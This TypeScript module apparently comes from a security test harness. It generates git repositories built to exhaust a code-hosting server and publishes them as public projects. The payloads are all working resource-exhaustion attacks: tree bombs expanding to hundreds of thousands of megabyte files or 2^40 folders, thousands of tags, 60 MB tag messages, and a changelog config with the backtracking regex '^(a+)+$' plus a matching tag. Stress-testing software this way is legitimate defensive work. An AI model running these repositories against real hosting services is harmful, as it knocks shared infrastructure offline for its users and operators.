// Repositories that are small to push and large to read. Anybody with a project could push them.
import { execFile } from 'node:child_process'
import path from 'node:path'
import { ask } from '../support/server-process.ts'
import type { Target } from './attack.ts'

const who = { name: 'Eve', email: 'eve@example.com' }

function git(dir: string, args: readonly string[], input: string | Buffer = ''): Promise<string> {
  const env = {
    ...{ PATH: process.env.PATH, HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' },
    ...{ GIT_AUTHOR_NAME: who.name, GIT_AUTHOR_EMAIL: who.email },
    ...{ GIT_COMMITTER_NAME: who.name, GIT_COMMITTER_EMAIL: who.email },
  }
  return new Promise((resolve, reject) => {
    const child = execFile('git', args, { cwd: dir, env, maxBuffer: 2 ** 28 }, (error, stdout) =>
      error ? reject(error) : resolve(stdout.trim()),
    )
    // Most commands do not read their input; the exit code says more than the broken pipe.
    child.stdin?.on('error', () => {}).end(input)
  })
}

type Write = (dir: string) => Promise<void>

const commitTree = async (dir: string, tree: string) => {
  const commit = await git(dir, ['commit-tree', '-m', 'x', tree])
  await git(dir, ['update-ref', 'refs/heads/main', commit])
  return commit
}

/** Trees in levels: each tree names the tree below it many times, and the lowest tree names a file. */
const trees =
  (levels: number, width: number, file: Buffer): Write =>
  async (dir) => {
    const blob = await git(dir, ['hash-object', '-w', '--stdin'], file)
    let [mode, id] = ['100644 blob', blob]
    for (let level = 0; level < levels; level++) {
      const entries = Array.from({ length: width }, (_, n) => `${mode} ${id}\t${n}`)
      ;[mode, id] = ['040000 tree', await git(dir, ['mktree'], `${entries.join('\n')}\n`)]
    }
    await commitTree(dir, id)
  }

const emptyTree = (dir: string) => git(dir, ['mktree'])

const manyTags =
  (count: number): Write =>
  async (dir) => {
    const commit = await commitTree(dir, await emptyTree(dir))
    const names = Array.from({ length: count }, (_, n) => `create refs/tags/t${n} ${commit}\n`)
    await git(dir, ['update-ref', '--stdin'], names.join(''))
  }

const longTags =
  (count: number, megabytes: number): Write =>
  async (dir) => {
    const commit = await commitTree(dir, await emptyTree(dir))
    const message = 'long '.repeat((megabytes * 1024 ** 2) / 5)
    for (let n = 0; n < count; n++) {
      const tag = `object ${commit}\ntype commit\ntag long${n}\ntagger Eve <eve@example.com> 1700000000 +0000\n\n${message}`
      const id = await git(dir, ['hash-object', '-w', '-t', 'tag', '--stdin'], tag)
      await git(dir, ['update-ref', `refs/tags/long${n}`, id])
    }
  }

/** A tag for which a pattern with this source takes ages, and the configuration of changelogs that has the pattern. */
const endlessPattern: Write = async (dir) => {
  const config = await git(dir, ['hash-object', '-w', '--stdin'], "tag_regex: '^(a+)+$'\n")
  const folder = await git(dir, ['mktree'], `100644 blob ${config}\tchangelog_config.yml\n`)
  const commit = await commitTree(dir, await git(dir, ['mktree'], `040000 tree ${folder}\t.gitlab\n`))
  await git(dir, ['update-ref', `refs/tags/${'a'.repeat(60)}!`, commit])
}

const MEGABYTE = 1024 ** 2

/** The repositories by the name of their project in the group `demo`. */
const repositories: Readonly<Record<string, Write>> = {
  /** 810,000 times 1 MB. */
  wide: trees(4, 30, Buffer.alloc(MEGABYTE)),
  /** 2^40 folders, each empty but for the lowest file. */
  deep: trees(40, 2, Buffer.from('x')),
  /** 30^8 files of a byte. */
  many: trees(8, 30, Buffer.from('x')),
  /** One file of 64 MB that is 64 KB when pushed. */
  large: trees(1, 1, Buffer.alloc(64 * MEGABYTE)),
  tags: manyTags(5_000),
  long: longTags(2, 60),
  pattern: endlessPattern,
}

type To = Pick<Target, 'url' | 'tokens' | 'dataDir'>
type Created = { projectCreate: { project: { id: string } } }

/** Writes straight into the repository, because a push takes minutes and the attack is the reading. */
async function publish({ url, tokens, dataDir }: To, name: string, dir: string): Promise<void> {
  const input = `{ groupPath: "demo", path: "${name}", visibility: public }`
  const mutation = `mutation { projectCreate(input: ${input}) { project { id } } }`
  const { project } = (await ask<Created>(url, mutation, tokens.owner)).data.projectCreate
  const id = project.id.split('/').at(-1)
  await git(dir, ['push', '--quiet', path.join(dataDir, 'repositories', `${id}.git`), 'refs/heads/*', 'refs/tags/*'])
}

/** Makes all of them. */
export async function publishRepositories(target: To, folder: string): Promise<void> {
  for (const [name, write] of Object.entries(repositories)) {
    const dir = path.join(folder, `${name}.git`)
    await git(folder, ['init', '--quiet', '--bare', dir])
    await write(dir)
    await publish(target, name, dir)
  }
}
